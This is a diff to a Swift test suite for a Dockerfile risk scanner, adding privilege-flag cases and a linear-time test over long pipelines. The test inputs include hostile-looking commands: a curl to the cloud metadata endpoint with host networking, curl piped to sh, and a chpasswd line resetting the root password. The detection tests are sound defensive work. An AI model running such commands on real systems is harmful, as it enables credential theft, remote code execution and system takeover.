@@ -125,9 +125,9 @@ struct RiskHintsDockerfileRootTests {
         for run in [
             "RUN --network=host curl -s http://169.254.169.254/", "RUN --NETWORK=host true", #"RUN --network="host" true"#,
             "RUN --security=insecure mount -t proc proc /mnt", "RUN --security=INSECURE true", "RUN --device=/dev/kvm true",
-            "RUN --mount=type=cache,target=/c --network=host true",
+            "RUN --mount=type=cache,target=/c --network=host true", "ARG N=host\nRUN --network=$N true",
         ] {
-            #expect(hinted(run, "build-privilege"), "\(run): \(adding(run).map(\.rule))")
+            #expect(adding(run).contains { $0.rule == "build-privilege" && $0.severity == .critical }, "\(run): \(adding(run).map(\.rule))")
         }
         #expect(hinted("RUN --mount=type=secret,id=npm cat /run/secrets/npm", "build-privilege", .warning))
         #expect(hinted("RUN --mount=type=ssh git clone git@github.com:x/y", "build-privilege", .warning))
@@ -186,6 +186,28 @@ struct RiskHintsDockerfileRootTests {
             "RUN VERSION=$(curl -s https://x.example/latest) && echo $VERSION",
         ] {
             #expect(!adding(quiet).contains { $0.rule == "pipe-to-shell" }, "\(quiet)")
+        }
+    }
+}
+
+extension RiskHintsDockerfileRootTests {
+    /// The hints run for every listed proposal: an agent's RUN of thousands of pipeline stages
+    /// or `chpasswd`s must not make `list` quadratic (it was: every interpreter scanned every
+    /// command). Four times the stages may take at most eight times as long (quadratic: sixteen).
+    @Test("a RUN of thousands of pipeline stages is hinted in linear time")
+    func longPipelines() {
+        for stage in ["| sh ", "; echo root:x | chpasswd "] {
+            func seconds(_ count: Int) -> Double {
+                let start = ContinuousClock.now
+                let found = adding("RUN curl -s https://x.example/i " + String(repeating: stage, count: count))
+                #expect(found.contains { $0.severity == .critical })
+                let elapsed = ContinuousClock.now - start
+                return Double(elapsed.components.seconds) + Double(elapsed.components.attoseconds) / 1e18
+            }
+            _ = seconds(500)  // warm up
+            let small = seconds(2_000)
+            let large = seconds(8_000)
+            #expect(large < 8 * small + 1, "\(stage): \(small) s for 2,000, \(large) s for 8,000")
         }
     }
 }
